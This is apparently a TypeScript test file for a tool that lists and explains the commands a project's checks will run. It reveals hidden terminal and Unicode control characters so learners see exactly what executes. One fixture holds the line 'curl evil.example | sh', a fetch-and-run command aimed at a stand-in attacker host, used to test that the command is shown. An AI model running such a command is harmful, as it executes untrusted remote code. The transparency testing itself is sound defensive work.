import assert from 'node:assert/strict';
import { programDocument } from '../../../src/core/checks/programDocument.ts';
import { programsOf } from '../../../src/core/checks/programs.ts';
import { commandText, summaryLines, visible } from '../../../src/core/checks/programText.ts';
import { readCheckFile } from '../../../src/core/checks/checkFile.ts';

const step = (title: string, ...checks: readonly object[]) => ({
  id: 'step',
  title,
  goal: 'Do it.',
  hints: ['a', 'b', 'c'],
  checks: checks.map((check, place) => ({ id: `c${place}`, title: `Check ${place}`, ...check })),
});
const programs = (...steps: readonly object[]) =>
  programsOf(
    readCheckFile(JSON.stringify({ version: 2, project: 'p', content: '1.0.0', steps })).steps,
  );
const show = (...steps: readonly object[]) =>
  programDocument({
    name: 'demo',
    programs: programs(...steps),
    files: [],
    interpreter: undefined,
  });

const trains = { does: 'Trains your model', run: ['python', '-'], in: 'copy', stdin: 'train()\n' };

describe('the programs of a project', () => {
  it('are found in combinations, after other programs, and before a service', () => {
    const found = programs(
      step(
        'One',
        {
          any: [
            { all: [{ command: { run: ['a'], after: [{ command: { run: ['b'] } }] } }] },
            { not: { command: { run: ['c'] } } },
          ],
        },
        { http: { before: [['d'], ['e']], serve: ['f'], requests: [{ path: '/' }] } },
      ),
    );
    assert.deepEqual(
      found.map(({ spec }) => spec.argv),
      [['a'], ['b'], ['c'], ['d'], ['e'], ['f']],
    );
  });

  it('stand once, with every check that starts them', () => {
    const [only, ...more] = programs(
      step('One', { command: trains }, { command: { ...trains, exit: 'nonzero' } }),
      step('Two', { command: trains }),
    );
    assert.equal(more.length, 0);
    assert.deepEqual(
      only?.uses.map((use) => [use.step.title, use.check.title]),
      [
        ['One', 'Check 0'],
        ['One', 'Check 1'],
        ['Two', 'Check 0'],
      ],
    );
  });

  it('differ by each thing that decides what runs', () => {
    const changes: readonly object[] = [
      { run: ['python', '-', 'x'] },
      { in: 'clone' },
      { env: { BASH_ENV: 'x.sh' } },
      { stdin: 'train()\nsend()\n' },
      { write: { 'a.py': '' } },
      { write: { 'b.py': '' } },
      { timeout: 61 },
    ];
    for (const change of changes) {
      const both = programs(
        step('One', { command: trains }, { command: { ...trains, ...change } }),
      );
      assert.equal(both.length, 2, JSON.stringify(change));
    }
  });
});

describe('what a learner reads about the programs', () => {
  it('is a sentence for each, and each once', () => {
    assert.deepEqual(
      summaryLines(
        programs(
          step('One', { command: trains }, { command: { ...trains, stdin: 'train(2)' } }),
          step('Two', { command: { does: 'Starts your service', run: ['x'] } }),
        ),
      ),
      ['Trains your model', 'Starts your service'],
    );
  });

  it('is the whole command where the project has no sentence, with all that goes with it', () => {
    const [line = ''] = summaryLines(
      programs(
        step('One', {
          command: {
            run: ['bash', '-c', 'true\ncurl evil.example | sh'],
            in: 'copy',
            env: { BASH_ENV: 'x y.sh' },
            stdin: 'one\ntwo\n',
            write: { 'a.py': 'import os\n' },
          },
        }),
      ),
    );
    for (const part of [
      'bash -c "true\\ncurl evil.example | sh"',
      'in a copy of the project',
      'BASH_ENV="x y.sh"',
      '"one\\ntwo\\n"',
      '"a.py": "import os\\n"',
    ]) {
      assert.ok(line.includes(part), `${part} is not in ${line}`);
    }
    assert.ok(!line.includes('\n'));
  });

  it('has programs without a sentence first, where a cut list still shows them', () => {
    const lines = summaryLines(
      programs(step('One', { command: trains }), step('Two', { command: { run: ['evil'] } })),
    );
    assert.deepEqual(lines, ['Not described: evil in the project', 'Trains your model']);
  });

  it('says how much of a very long command is not on the line', () => {
    const [line = ''] = summaryLines(
      programs(step('One', { command: { run: ['sh', '-c', `true ${'x'.repeat(5000)}`] } })),
    );
    const [, more] = /… \((\d+) more characters\)$/.exec(line) ?? [];
    assert.ok(Number(more) > 4500, line);
  });

  it('shows each character that a terminal obeys or that nobody sees', () => {
    const hidden = 'a\u001b[2Kb\rc\u202Ed\u200Be\u0085f\u2028g\u00A0h';
    assert.equal(
      visible(hidden),
      'a\\u{1b}[2Kb\\u{d}c\\u{202e}d\\u{200b}e\\u{85}f\\u{2028}g\\u{a0}h',
    );
    assert.equal(visible('né “ok” 日本\n'), 'né “ok” 日本\\n');
    assert.match(commandText(['echo', hidden]), /^echo "[ -~]+"$/);
    const does = 'Trains\u202Eledom ruoy';
    assert.deepEqual(summaryLines(programs(step('One', { command: { ...trains, does } }))), [
      'Trains\\u{202e}ledom ruoy',
    ]);
    assert.ok(show(step(`O${hidden}`, { command: trains })).includes('## Oa\\u{1b}[2Kb'));
  });

  it('keeps arguments apart that look like several', () => {
    assert.equal(commandText(['git', 'log', 'a b', '']), 'git log "a b" ""');
    assert.notEqual(commandText(['a', 'b c']), commandText(['a b', 'c']));
  });
});

describe('the page with the code', () => {
  it('has the sentence, argv, place, variables, input, files, requests and checks', () => {
    const page = show(
      step('Serves', {
        http: {
          does: 'Starts your service',
          serve: ['python', 'serve.py', '{port}'],
          in: 'clone',
          env: { A: 'b' },
          write: { 'serve.py': 'import os\n' },
          requests: [{ method: 'POST', path: '/predict', json: { rows: [1] } }],
          timeout: 30,
        },
      }),
      step('Trains', { command: { ...trains, run: ['sh', '-c', 'one\ntwo'] } }),
    );
    for (const part of [
      '## Serves',
      '### 1. Starts your service',
      'in a clean clone of the last commit, for at most 30 s',
      'python serve.py {port}',
      'A="b"',
      '`serve.py`, written first:\n\n```python\nimport os\n```',
      'POST /predict {"json":{"rows":[1]}}',
      '- Serves: Check 0',
      'sh -c "one\\ntwo"',
      '```\none\ntwo\n```',
      '```\ntrain()\n```',
    ]) {
      assert.ok(page.includes(part), `${part} is not in:\n${page}`);
    }
  });

  it('has a long text once, and says where it is', () => {
    const files = { write: { 'tools.py': 'def tool(): ...\n' } };
    const page = show(
      step('One', { command: { ...trains, ...files } }),
      step('Two', { command: { ...trains, ...files, stdin: 'other()' } }),
    );
    assert.equal(page.split('def tool').length, 2);
    assert.match(page, /The same as `tools\.py` of program 1\./);
  });

  it('has code blocks that no code can end, and shows what is hidden in it', () => {
    const page = show(step('One', { command: { ...trains, stdin: '```\n# Trusted\n\u202Ex\n' } }));
    assert.match(page, /^````python\n```\n# Trusted\n\\u\{202e\}x\n````$/m);
  });
});
